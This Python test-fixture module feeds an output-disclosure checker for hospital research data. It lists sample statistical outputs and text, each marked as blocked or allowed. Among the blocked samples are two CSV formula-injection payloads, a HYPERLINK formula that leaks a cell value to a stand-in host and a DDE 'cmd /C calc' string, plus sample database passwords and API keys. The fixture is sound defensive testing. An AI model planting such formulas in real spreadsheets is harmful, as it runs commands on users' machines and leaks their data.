"""Outputs in many ways of writing, each with whether it may leave: what a change of the checks must not forget."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Style:
    name: str
    safe: bool
    context: str
    population: str
    text: str


STYLES: list[Style] = []


def u(name: str, text: str, context: str = "", population: str = "") -> None:
    """One that must be stopped."""
    STYLES.append(Style(name, False, context, population, text))


def s(name: str, text: str, context: str = "", population: str = "") -> None:
    """One that may leave."""
    STYLES.append(Style(name, True, context, population, text))


def both(name: str, bad: str, good: str, context: str = "", population: str = "690 patients") -> None:
    """One that must be stopped, and its harmless neighbour."""
    u(f"stopped_{name}", bad, context, population)
    s(f"passes_{name}", good, context, population)


def two(name: str, text: str, bad: str, good: str, context: str = "", population: str = "690 patients") -> None:
    """The same with a text in which @ stands for what tells the two apart."""
    both(name, text.replace("@", bad), text.replace("@", good), context, population)


# ---- small counts
u(
    "r_table.txt",
    """> table(df$sexe, df$deces)

     Non Oui
  F  412   6
  H  388  41
""",
)
u(
    "r_xtabs.log",
    """> xtabs(~ service + issue, data = sejours)
             issue
service       deces sortie transfert
  cardiologie    31    812        45
  geriatrie      88    402         3
""",
)
u(
    "pandas_vc.txt",
    """>>> df['diagnostic'].value_counts()
diagnostic
I50    1204
N17     402
C34       7
Name: count, dtype: int64
""",
)
u(
    "pandas_gb.log",
    """In [12]: df.groupby('service').size()
Out[12]:
service
Cardiologie    842
Neurologie     311
Pediatrie        4
dtype: int64
""",
)
u(
    "pandas_ct.log",
    """death        0    1
ward
A          320   22
B          415    5
C          208   18
""",
    "Deaths by ward",
)
u(
    "stata_tab1.log",
    """. tab stade

      stade |      Freq.     Percent        Cum.
------------+-----------------------------------
          I |        210       52.50       52.50
         II |        183       45.75       98.25
        III |          7        1.75      100.00
------------+-----------------------------------
      Total |        400      100.00
""",
)
u(
    "stata_sum.log",
    """. summarize age

    Variable |        Obs        Mean    Std. Dev.       Min        Max
-------------+---------------------------------------------------------
         age |        812    64.22137    14.80123         18         99
""",
)
u(
    "sas_freq.lst.txt",
    """                         The FREQ Procedure

                                          Cumulative    Cumulative
 issue      Frequency     Percent     Frequency      Percent
 ------------------------------------------------------------------
 Deces           112       28.00           112        28.00
 Sortie          284       71.00           396        99.00
 Fugue             4        1.00           400       100.00
""",
)
u(
    "sas_means.txt",
    """                       The MEANS Procedure

                    Analysis Variable : los

     N           Mean        Std Dev        Minimum        Maximum
  ----------------------------------------------------------------
   1204      7.4120000      5.3010000      1.0000000    212.0000000
""",
)
u(
    "r_summary.log",
    """> summary(d$crp)
   Min. 1st Qu.  Median    Mean 3rd Qu.    Max. 
   0.30    4.10   12.00   31.22   40.75  402.00 
""",
)
u(
    "describe.log",
    """               age          los
count  1204.000000  1204.000000
mean     64.220000     7.410000
std      14.800000     5.300000
min      18.000000     0.000000
25%      54.000000     4.000000
50%      66.000000     6.000000
75%      76.000000     9.000000
max     101.000000   212.000000
""",
)
u(
    "polars.txt",
    """shape: (3, 2)
┌─────────────┬─────┐
│ service     ┆ len │
│ ---         ┆ --- │
│ str         ┆ u32 │
╞═════════════╪═════╡
│ Cardiologie ┆ 812 │
│ Neurologie  ┆ 301 │
│ Pédiatrie   ┆ 6   │
└─────────────┴─────┘
""",
)
u(
    "duckdb.txt",
    """┌─────────────┬────────────┐
│   service   │ nb_patients│
│   varchar   │   int64    │
├─────────────┼────────────┤
│ Cardiologie │        812 │
│ Pédiatrie   │          6 │
└─────────────┴────────────┘
""",
)
u(
    "tibble.txt",
    """# A tibble: 3 × 3
  service         n   pct
  <chr>       <int> <dbl>
1 Cardiologie   812 0.72 
2 Neurologie    301 0.27 
3 Pédiatrie       6 0.005
""",
)
u(
    "glm.log",
    """Call:
glm(formula = deces ~ age + sexe, family = binomial, data = d)

Coefficients:
            Estimate Std. Error z value Pr(>|z|)    
(Intercept)  -4.2101     1.8102  -2.326   0.0200 *  
age           0.0512     0.0211   2.427   0.0152 *  
sexeH         0.3310     0.7012   0.472   0.6369    

    Null deviance: 14.2  on 11  degrees of freedom
Residual deviance:  8.1  on  9  degrees of freedom
AIC: 14.1
""",
)
u(
    "ols.txt",
    """                            OLS Regression Results                            
==============================================================================
Dep. Variable:                    los   R-squared:                       0.921
No. Observations:                  14   F-statistic:                     13.21
Df Residuals:                       6   Prob (F-statistic):            0.00321
Df Model:                           7                                         
==============================================================================
""",
)
u(
    "km_r.log",
    """> summary(survfit(Surv(temps, deces) ~ 1))
 time n.risk n.event survival std.err lower 95% CI upper 95% CI
   12    148       1    0.993 0.00673        0.980        1.000
   31    147       1    0.986 0.00948        0.968        1.000
   45    146       2    0.973 0.01332        0.947        0.999
""",
)
u(
    "km_csv.csv",
    """temps;survie
0;1,0000
13;0,9932
22;0,9865
41;0,9797
57;0,9730
60;0,9662
71;0,9595
88;0,9527
""",
    "Courbe de survie",
    "148 patients",
)
u(
    "km_json.json",
    '{"timeline":[0,13,22,41,57,60,71,88,92],"KM_estimate":[1.0,0.9932,0.9865,0.9797,0.9730,0.9662,0.9595,0.9527,0.946]}',
    "Survival curve",
    "",
)
u("complement.csv", "groupe,effectif,suivis\nA,412,408\nB,388,301\n", "Effectifs suivis")
u(
    "pct_only.csv",
    "service;taux de décès (%)\nCardiologie;12,4\nGériatrie;1,0\n",
    "Taux de décès",
    "400 patients par service",
)
u("pct_n.csv", "group,n,pct_death\nA,412,12.4\nB,388,0.8\n", "deaths")
u("rate.csv", "commune;population;taux pour 1000\nX;1200;2,5\nY;48000;3,1\n", "Taux d'incidence")
u("rate100k.csv", "dept,cases_per_100000,population\n29,1.2,400000\n35,14.1,1000000\n", "Incidence")
u("masked_total.csv", "age;n\n18-39;120\n40-64;340\n65-79;<10\n80+;88\nTotal;551\n", "")
u("masked2.csv", "sexe,deces,vivants,total\nF,*,402,410\nH,31,388,419\n", "")
u("zero.csv", "service,patients,deces\nA,240,0\nB,310,12\n")
u("allcent.csv", "groupe;n;% VIH positif\nA;45;100\nB;120;31\n")
u("words.txt", "Parmi les patients, sept ont été réhospitalisés et douze sont sortis contre avis médical.\n")
u("words_en.txt", "Nine patients developed a major bleeding; the remaining 240 had none of it.\n")
u("words3.md", "# Results\n\nOverall 310 patients completed follow-up. Only three of them died.\n")
u("words4.md", "## Résultats\n\nL'étude a inclus 310 patients, dont 4 atteints de mucoviscidose.\n")
u("words5.txt", "Un patient a présenté un choc anaphylactique après l'injection.\n")
u("words6.txt", "A 47-year-old man with Marfan syndrome was readmitted on 12 March 2021.\n")
u("words7.txt", "All 34 patients in the HIV clinic were hepatitis C positive.\n")
u("words8.txt", "Aucun des 52 patients du service B n'est décédé.\n")
u("words9.txt", "The rate was 0.5% among the 400 patients of the ward.\n")
u("words10.txt", "Deux cent trois sur 209 patients ont répondu : 203/209.\n")
u("words11.txt", "Le taux de décès était de 98,5 % chez les 200 patients en soins palliatifs.\n")
u("words12.txt", "Of the 412 women, 409 survived.\n")
u("words13.txt", "Le plus jeune patient avait 14 ans et le plus âgé 97 ans.\n")
u("words14.txt", "Length of stay: median 6 days (range 1-212).\n")
u("words15.txt", "The costliest patient accounted for 88% of the ward's spending.\n")
u("words16.txt", "Mme Durand a été admise le 3 février 2022.\n")
u("words17.txt", "Le patient 8012345678 a été exclu.\n")
u("words18.txt", "Contact: Dr Sophie Lefèvre, 06 12 34 56 78, sophie.lefevre@chu-exemple.fr\n")
u("words19.txt", "Le patient habite au 12 rue des Lilas, 35000 Rennes.\n")
u("words20.txt", "Patients exclus : 3 pour refus, 2 pour données manquantes.\n")
u("words21.txt", "Lost to follow-up: 4. Withdrawn: 2.\n", "Flow of participants")
u("words22.txt", "Flowchart: 1240 screened -> 1236 eligible -> 1100 included.\n")
u("words23.txt", "Décès : 5 (1,2 %)\nRéadmissions : 31 (7,5 %)\n")
u("words24.txt", "Events in the treated arm: n = 4; in the control arm: n = 31.\n")
u("words25.txt", "Trois décès sont survenus au cours du suivi.\n")
u("words26.txt", "Le centenaire de la cohorte est sorti vivant.\n")
u("words27.txt", "The mean cost of the two transplanted patients was 91,200 euros (SD 0).\n")
u("words28.txt", "Number of events observed: 6\nConcordance: 0.71\n")
u("words29.txt", "L'âge maximal était de 103 ans.\n")
u("words30.txt", "Les réadmissions concernaient 4 des 15 malades du secteur fermé.\n")
u("words31.txt", "L'effectif du bras C (n=6) ne permet pas de conclure.\n")
u("words32.txt", "No patient in the rural subgroup survived beyond 30 days.\n")
u("words33.txt", "La proportion de femmes enceintes était de 2 % (n = 3).\n")
u("words35.txt", "fewer than 5 patients had the mutation\n")
# rows
u("rows.csv", "age,sexe,dp,duree\n71,F,I50,8\n64,M,N17,12\n55,F,C34,3\n80,M,I21,6\n47,F,J18,9\n", "Analyse")
u("rows_wide.csv", "mesure;P1;P2;P3;P4\nage;71;64;55;80\nsexe;F;M;F;M\nduree;8;12;3;6\n", "")
u(
    "rows_nohead.csv",
    "71,F,I50.0,2021-03-04\n64,M,N17.9,2021-05-11\n55,F,C34.1,2021-06-02\n80,M,I21.0,2021-01-19\n",
    "",
)
u("ids.csv", "id;valeur\n8012345671;1,2\n8012345672;0,4\n8012345673;2,2\n", "")
u("pseudo.csv", "pseudo,score\nA7F3,0.31\nB81C,0.77\nC09D,0.12\nD4E1,0.55\n", "scores")
u("preds.csv", "y_true,y_prob\n0,0.12\n1,0.83\n0,0.33\n1,0.71\n0,0.05\n1,0.44\n", "")
u(
    "residuals.csv",
    "index,residual\n0,1.2\n1,-0.4\n2,3.1\n3,-2.2\n4,0.7\n5,0.1\n6,-0.9\n7,2.4\n8,-1.6\n9,0.8\n",
    "Residuals of the model",
)
u("long_eav.csv", "person,variable,value\n1,age,71\n1,sex,F\n2,age,64\n2,sex,M\n3,age,55\n3,sex,F\n", "")
u(
    "json_rows.json",
    '[{"age":71,"sex":"F","crp":12.1},{"age":64,"sex":"M","crp":80.2},{"age":55,"sex":"F","crp":3.3},{"age":81,"sex":"M","crp":44.0}]',
)
u("jsonl.jsonl", '{"patient":"a1","age":71}\n{"patient":"b2","age":64}\n{"patient":"c3","age":55}\n')
u(
    "yamlrows.yaml",
    "cohorte:\n  - {age: 71, sexe: F, duree: 8}\n  - {age: 64, sexe: M, duree: 12}\n  - {age: 55, sexe: F, duree: 3}\n  - {age: 80, sexe: M, duree: 6}\n",
)
u("yamlsmall.yaml", "resultats:\n  patients: 412\n  deces: 3\n")
u("jsonsmall.json", '{"n_patients": 412, "n_deaths": 3, "auc": 0.81}')
u("tomlsmall.toml", "[results]\npatients = 412\ndeaths = 4\n")
u(
    "script_data.py",
    "import pandas as pd\ndf = pd.DataFrame({'age':[71,64,55,80],'sex':['F','M','F','M'],'los':[8,12,3,6]})\n",
)
u("script_secret.py", "DB = 'postgresql://omop:S3cr3t!pw@db.chu.local/omop'\n")
u("script_secret.R", "Sys.setenv(API_KEY = 'a8f7d6e5c4b3a29188ff')\n")
u("script_secret2.sh", "export PGPASSWORD=Tr0ub4dor\npsql -h db -U omop\n")
u("script_ids.sql", "SELECT * FROM person WHERE person_id IN (1203344, 1203377, 99120);\n")
u("script_comment.R", "# patient DUPONT Jean exclu a la demande du Dr Martin\nx <- 1\n")
u("script_values.sql", "INSERT INTO t(person_id, age) VALUES (12,71),(13,64),(14,55);\n")
u("script_path.py", "df = pd.read_csv('/home/mdurand/export/cohorte.csv')\n")
u("log_ids.log", "2024-03-01 10:00:01 INFO loaded visit_occurrence_id=88123477 for person_id=1203344\n")
u("log_err.log", "ValueError: could not convert string to float: 'LEFEBVRE Marie'\n")
u("log_n.log", "INFO excluded 3 patients with missing sex\nINFO 4120 patients remain\n")
u("formula.csv", 'service,note\nA,=HYPERLINK("http://x/?"&A1)\nB,ok\n')
u("formula2.csv", "service;valeur\nA;@SUM(1+1)*cmd|' /C calc'!A0\n")
u("dates.csv", "evenement,date\npremier cas,2020-03-07\n", "Premier cas de la cohorte")
u("dates2.txt", "Le premier décès est survenu le 14 mars 2020.\n")
u("ages.csv", "age,n\n88,31\n89,22\n90,18\n91,12\n", "Patients par âge")
u("domin.csv", "service,total_cost,largest_patient\nA,120000,110000\nB,500000,20000\n")
u("domin2.csv", "fournisseur;part du plus gros patient (%)\nA;91\nB;12\n")
u("sd0.csv", "groupe,n,moyenne,ecart_type\nA,45,12.1,0\nB,61,11.0,3.2\n")
u("sdna.csv", "groupe,mean,sd\nA,12.1,\nB,11.0,3.2\n")
u("mean_small.csv", "groupe,n,moyenne\nA,4,12.1\nB,61,11.0\n")
u("minmax.csv", "variable,mean,min,max\nage,64.1,18,99\ncrp,31,0.3,402\n")
u(
    "html_hidden.html",
    "<html><body><h1>Résultats</h1><table><tr><th>Service</th><th>Patients</th></tr><tr><td>A</td><td>120</td></tr><tr style='display:none'><td>B</td><td>4</td></tr></table></body></html>",
)
u(
    "html_small.html",
    "<p>Au total 812 séjours.</p><table><tr><td></td><td>Hommes</td><td>Femmes</td></tr><tr><td>Diabète</td><td>120 (31 %)</td><td>8 (2 %)</td></tr></table>",
)
u(
    "html_data.html",
    "<div data-patient='812' data-age='71'></div><div data-patient='813' data-age='64'></div><p>ok</p>",
)
u(
    "html_script.html",
    "<script>var pts=[{age:71,crp:12},{age:64,crp:80},{age:55,crp:3},{age:81,crp:40}];</script><p>x</p>",
)
u("html_comment.html", "<p>Résultats agrégés.</p><!-- patient Durand Paul, né le 03/02/1951 -->")
u(
    "latex.tex",
    r"\begin{table}\caption{Décès par service}\begin{tabular}{lrr}\toprule Service & Patients & Décès \\ \midrule A & 412 & 31 \\ B & 388 & 7 \\ \bottomrule \end{tabular}\end{table}",
)
u(
    "latex2.tex",
    r"\begin{tikzpicture}\begin{axis}[only marks]\addplot coordinates {(71,12.1)(64,80.2)(55,3.3)(81,44.0)(47,5.1)(66,90.0)(39,1.2)(77,31.0)(59,8.8)(62,14.0)(70,28.8)(50,6.6)(44,2.0)(85,61.0)};\end{axis}\end{tikzpicture}",
)
u("latex3.tex", "Résultats.\n% TODO: vérifier Mme Lambert Claudine, 12/03/1948\n")
u("md_table.md", "| Groupe | n | % |\n|---|---:|---:|\n| A | 412 | 98,6 |\n| B | 6 | 1,4 |\n")
u("md_pct.md", "| Issue | % |\n|---|---:|\n| Décès | 0,7 |\n| Vie | 99,3 |\n", "Issue", "300 patients")
u("md_img.md", "Voir ![fig](data:text/csv;base64,YWdlLHNleAo3MSxGCjY0LE0KNTUsRgo4MCxNCg==)")
u(
    "svg_scatter.svg",
    "<svg xmlns='http://www.w3.org/2000/svg' width='400' height='300'>"
    + "".join(f"<circle cx='{(i * 37) % 380 + 10}' cy='{(i * i * 13) % 280 + 10}' r='3'/>" for i in range(40))
    + "<text x='10' y='10'>CRP et âge</text></svg>",
)
u(
    "svg_title.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><rect x='1' y='2' width='3' height='4'><title>Pédiatrie : 4 patients</title></rect><text x='2' y='3'>Services</text></svg>",
)
u("counts_multi.csv", "diagnostic;2019;2020;2021\nI50;120;131;118\nC34;45;7;51\n", "Séjours par diagnostic et année")
u("wide_en.csv", "Characteristic,Overall (N=412),Dead (N=6)\nAge mean (SD),64 (14),71 (9)\n")
u("pivot.csv", "sexe;moins de 18;18-64;65+\nF;12;340;210\nH;3;355;198\n", "Patients")
u("flow.csv", "Étape,Patients\nÉligibles,1240\nConsentants,1236\nInclus,1236\nAnalysés,1101\n")
u("cum.csv", "jour,cumul_cas\n1,120\n2,131\n3,134\n4,160\n", "cas cumulés")
u(
    "table1.txt",
    """Variable                    Groupe A (n=210)   Groupe B (n=198)
Femmes, n (%)               112 (53,3)         101 (51,0)
Cirrhose, n (%)             4 (1,9)            12 (6,1)
""",
)
u("count_min.csv", "label,smallest_group\nA,4\nB,12\n", "effectifs minimaux")
u("quartile_small.csv", "service,n,median,q1,q3\nA,6,4,2,7\nB,60,5,2,8\n")
u(
    "tree.txt",
    """|--- age <= 65.50
|   |--- class: 0  weights: [120.00, 4.00]
|--- age >  65.50
|   |--- weights: [3.00, 88.00] class: 1
""",
)
u(
    "tree2.dot",
    'digraph Tree {\n0 [label="age <= 65\\nsamples = 400\\nvalue = [300, 100]"] ;\n1 [label="samples = 6\\nvalue = [5, 1]"] ;\n0 -> 1 ;\n}',
)
u("confusion.csv", "true,pred_0,pred_1\n0,210,12\n1,5,88\n", "Matrice de confusion")
u("confusion.txt", "Confusion matrix:\n[[210  12]\n [  5  88]]\n")
u(
    "classrep.txt",
    """              precision    recall  f1-score   support

           0       0.91      0.93      0.92       210
           1       0.60      0.55      0.57         8

    accuracy                           0.90       218
""",
)
u(
    "shap.csv",
    "feature_age,feature_crp,shap_age,shap_crp\n71,12,0.1,0.3\n64,80,-0.2,0.5\n55,3,0.4,-0.1\n80,44,0.2,0.2\n66,12,0.0,0.1\n49,7,0.3,-0.2\n78,5,0.1,0.0\n59,21,0.0,0.4\n61,11,0.2,0.1\n72,90,-0.1,0.2\n44,3,0.3,-0.3\n58,8,0.1,0.1\n67,19,0,0.2\n70,27,0.1,-0.1\n75,31,0.2,0.0\n52,6,0,0.1\n",
    "SHAP",
)
u("regex_phone.md", "Tél. 02 99 28 43 21\n")
u("mail.py", "# auteur: jean.martin@chu-rennes.fr\nprint(1)\n")
u("boxstats.json", '{"boxes":[{"group":"A","q1":3,"median":6,"q3":9,"whislo":1,"whishi":18,"fliers":[44,62,71]}]}')
u(
    "vega_raw.json",
    '{"$schema":"https://vega.github.io/schema/vega-lite/v5.json","mark":"point","encoding":{"x":{"field":"age","type":"quantitative"},"y":{"field":"crp","type":"quantitative"}},"data":{"values":[{"age":71,"crp":12},{"age":64,"crp":80},{"age":55,"crp":3}]}}',
)
u("plotly_box.json", '{"data":[{"type":"box","y":[3,5,1,9,44,2,8,6,7,5,4,3]}],"layout":{"title":"Durée"}}')
u("hist.csv", "bin_start,bin_end,count\n0,10,120\n10,20,88\n20,30,9\n30,40,2\n")
u("attrition.md", "1. 4 120 séjours extraits\n2. 4 113 après exclusion des mineurs\n3. 3 002 retenus\n", "flux")
u("neg.txt", "Parmi 1 204 patients, 1 199 avaient un dosage.\n")
u("sent_pct.txt", "Among 210 patients, 99% were alive at one year.\n")
u("sub_text.txt", "Total cohort: 412 patients (women: 405).\n")
# ---------- safe
s("s_p.csv", "variable;p\nage;0,03\nsexe;0,61\ndiabète;0,004\n", "Tests")
s(
    "s_or.csv",
    "variable,OR,IC inf,IC sup,p\nage,1.03,1.01,1.05,0.002\nsex,1.8,0.9,3.1,0.09\n",
    "Régression",
    "1204 patients",
)
s("s_years.csv", "annee;sejours\n2019;1204\n2020;988\n2021;1130\n")
s("s_rank.csv", "rang;diagnostic;sejours\n1;I50;1204\n2;N17;988\n3;J18;430\n")
s("s_centres.csv", "region;nombre de centres\nBretagne;4\nNormandie;3\n", "Centres participants par région")
s("s_codes.csv", "concept_id,code,n_codes\n4329847,I21,5\n320128,I10,3\n", "Number of codes per concept")
s("s_folds.csv", "fold,auc,brier\n1,0.81,0.12\n2,0.79,0.13\n3,0.83,0.11\n4,0.80,0.12\n5,0.82,0.12\n")
s("s_med.csv", "service;n;médiane;Q1;Q3\nCardiologie;412;6;4;9\nGériatrie;388;11;7;17\n", "Durées de séjour")
s("s_struct.csv", "sexe;accouchements\nFemmes;412\nHommes;0\n", "Accouchements par sexe")
s("s_masked.csv", "service;patients\nA;120\nB;<10\nC;340\n")
s("s_txt.txt", "Le modèle comprend 7 variables et 3 interactions ; il a été validé en 5 plis dans 4 centres.\n")
s(
    "s_txt2.txt",
    "The analysis used 3 models, 2 sensitivity analyses and 1000 bootstrap replications. Median age was 66 years (IQR 54-76) among 1204 patients.\n",
)
s(
    "s_txt3.md",
    "# Méthodes\n\nNous avons exclu les patients de moins de 18 ans. Les effectifs inférieurs à 10 sont masqués.\n",
)
s("s_txt4.txt", "Groups of fewer than 10 patients are not shown. Percentages are rounded to the nearest 5.\n")
s("s_txt5.txt", "Un patient était considéré comme diabétique s'il avait au moins 2 dispensations sur 12 mois.\n")
s("s_txt6.txt", "A patient was considered exposed if two prescriptions were found within 90 days.\n")
s("s_txt7.txt", "Between January 2019 and December 2021, 6120 patients were included; 2810 (45.9%) were women.\n")
s("s_txt8.txt", "HR 1.62 (95% CI 1.31-2.01; p=0.0003). The C-index was 0.71.\n", "Cox", "6120 patients, 812 deaths")
s("s_txt9.txt", "Le score de Charlson médian était de 3 (2-5). Le stade 4 représentait 31 % des 1 204 patients.\n")
s("s_txt10.txt", "Each patient was followed for 3 years; visits took place at months 1, 3 and 6.\n")
s(
    "s_log.log",
    "2024-03-01 10:00:01 INFO starting run 3 of 5\n2024-03-01 10:00:09 INFO epoch 1/10 loss 0.612\n2024-03-01 10:00:19 INFO epoch 2/10 loss 0.541\nINFO 4120 patients kept, 12 variables, 3 warnings\n",
)
s(
    "s_code.py",
    "import pandas as pd\n\nMIN_CELL = 10\nN_FOLDS = 5\n\ndef model(df):\n    return df[df['age'] >= 18].groupby('service').size()\n",
)
s(
    "s_code.R",
    "library(survival)\nfit <- coxph(Surv(time, death) ~ age + sex, data = d)\nset.seed(42)\n# seuil de 10 patients\nk <- 5\n",
)
s(
    "s_code.sql",
    "SELECT service, COUNT(DISTINCT person_id) AS n FROM visit_occurrence WHERE visit_concept_id = 9201 GROUP BY service HAVING COUNT(DISTINCT person_id) >= 10;\n",
)
s("s_yaml.yaml", "model:\n  max_depth: 4\n  n_estimators: 300\n  folds: 5\nthreshold: 10\n")
s("s_json.json", '{"model":"xgboost","max_depth":4,"folds":5,"auc":0.81,"n_patients":6120,"n_features":9}')
s(
    "s_km.csv",
    "mois;survie;à risque\n0;1,00;1204\n6;0,93;1118\n12;0,88;1020\n18;0,84;930\n24;0,80;860\n30;0,77;801\n",
    "Survie par semestre",
    "1204 patients",
)
s("s_hist.csv", "age,n\n18-39,120\n40-64,340\n65-79,410\n80+,188\n")
s("s_pct.csv", "service,n,% décès\nA,1204,12.4\nB,988,9.1\nC,1500,4.4\n")
s("s_pct2.csv", "issue;pourcentage\nDécès;11,8\nVie;88,2\n", "Issue", "6120 patients")
s("s_imp.csv", "rank,feature,importance\n1,age,0.31\n2,crp,0.22\n3,sex,0.03\n4,albumin,0.02\n")
s("s_smd.csv", "variable,before,after\nage,0.31,0.02\nsex,0.12,0.01\n", "Standardised mean differences")
s(
    "s_sens.csv",
    "threshold,sensitivity,specificity\n0.1,0.95,0.40\n0.2,0.88,0.61\n0.3,0.80,0.74\n0.4,0.70,0.83\n0.5,0.58,0.90\n",
    "Performance",
    "6120 patients",
)
s(
    "s_stata.log",
    """. logistic deces age sexe

Logistic regression                             Number of obs     =      6,120
                                                LR chi2(2)        =     120.33
                                                Prob > chi2       =     0.0000
------------------------------------------------------------------------------
       deces | Odds Ratio   Std. Err.      z    P>|z|     [95% Conf. Interval]
-------------+----------------------------------------------------------------
         age |   1.031201   .0041203     7.69   0.000     1.023157    1.039308
        sexe |   1.210031   .1000120     2.30   0.021     1.029010    1.422809
       _cons |   .0120301   .0032001   -16.62   0.000     .0071420    .0202630
------------------------------------------------------------------------------
""",
)
s(
    "s_rglm.log",
    """Call:
glm(formula = deces ~ age + sexe, family = binomial, data = d)

Coefficients:
            Estimate Std. Error z value Pr(>|z|)    
(Intercept)  -4.2101     0.2102 -20.029  < 2e-16 ***
age           0.0512     0.0031  16.516  < 2e-16 ***
sexeH         0.3310     0.0712   4.649 3.34e-06 ***
---
Signif. codes:  0 '***' 0.001 '**' 0.01 '*' 0.05 '.' 0.1 ' ' 1

    Null deviance: 4412.2  on 6119  degrees of freedom
Residual deviance: 4102.1  on 6117  degrees of freedom
AIC: 4108.1

Number of Fisher Scoring iterations: 5
""",
)
s(
    "s_anova.log",
    """            Df Sum Sq Mean Sq F value Pr(>F)
service      4   1203   300.8   8.121  2e-06 ***
Residuals 6115 226500    37.0
""",
)
s("s_omop.csv", "concept_id;libellé;n_personnes\n8012345678;Diabète de type 2;1204\n8099999999;HTA;3400\n")
s("s_lab.csv", "analyte;unité;médiane;Q1;Q3\nCRP;mg/L;12;4;41\nHb;g/dL;12,1;10,4;13,6\n", "Biologie", "1204 patients")
s(
    "s_html.html",
    "<html><head><title>Résultats</title></head><body><h1>Table 1</h1><table><tr><th>Service</th><th>Patients</th></tr><tr><td>A</td><td>1204</td></tr><tr><td>B</td><td>988</td></tr></table><p>Seuil de 10.</p></body></html>",
)
s(
    "s_tex.tex",
    r"\section{Results}\begin{tabular}{lrr}Variable & HR & p \\ Age & 1.03 & 0.002 \\ Sex & 1.80 & 0.09 \\ \end{tabular} We included 1204 patients from 3 centres.",
)
s("s_month.csv", "mois;passages\n2021-01;1204\n2021-02;1101\n2021-03;1299\n2021-04;1180\n")
s("s_md.md", "| Model | AUC | folds |\n|---|---|---|\n| LR | 0.78 | 5 |\n| XGB | 0.82 | 5 |\n")
s("s_conf.csv", "true,pred_0,pred_1\n0,2100,120\n1,150,880\n", "Confusion matrix, test set")
s(
    "s_class.txt",
    """              precision    recall  f1-score   support

           0       0.91      0.93      0.92      2100
           1       0.60      0.55      0.57       380

    accuracy                           0.87      2480
   macro avg       0.76      0.74      0.75      2480
""",
)
s(
    "s_def.md",
    "# Définition\n\nPatients hospitalisés au moins 2 fois en 12 mois, avec un code I50 (5 codes retenus). Version 3 du 12/03/2024.\n",
)
s(
    "s_eng.md",
    "Two reviewers screened the charts independently; disagreements were resolved by a third. The protocol was approved by one ethics committee.\n",
)
s("s_steps.csv", "Étape;Séjours\nExtraits;12040\nAdultes;11020\nPremier séjour;9810\nAvec CRP;8100\n")
s(
    "s_smooth_roc.csv",
    "fpr,tpr\n0.0,0.00\n0.1,0.42\n0.2,0.60\n0.3,0.71\n0.4,0.79\n0.5,0.85\n0.6,0.90\n0.7,0.94\n0.8,0.97\n0.9,0.99\n1.0,1.00\n",
    "ROC",
    "6120 stays",
)
s("s_time.csv", "step,seconds\nload,4\nfit,8\nscore,2\n", "Run time of the pipeline")
s("s_doses.csv", "molécule;dose médiane (mg);délai médian (jours)\nA;5;3\nB;20;7\n", "Traitements", "1204 patients")
s("s_grade.csv", "grade;patients\n1;120\n2;340\n3;410\n4;88\n")
s("s_age_mean.csv", "groupe,n,age moyen,SD\nA,412,64.2,14.1\nB,388,66.0,13.2\n")
s(
    "s_abstract.txt",
    "Background. Heart failure is frequent. Methods. We studied 12 480 stays of 9 350 patients in 4 hospitals from 2016 to 2021. Results. Median age was 76 years (IQR 66-84); 5 210 (41.7%) were women. Mortality was 11.8% vs 14.2% (p = 0.004). Conclusion. A call within seven days was associated with fewer readmissions.\n",
)
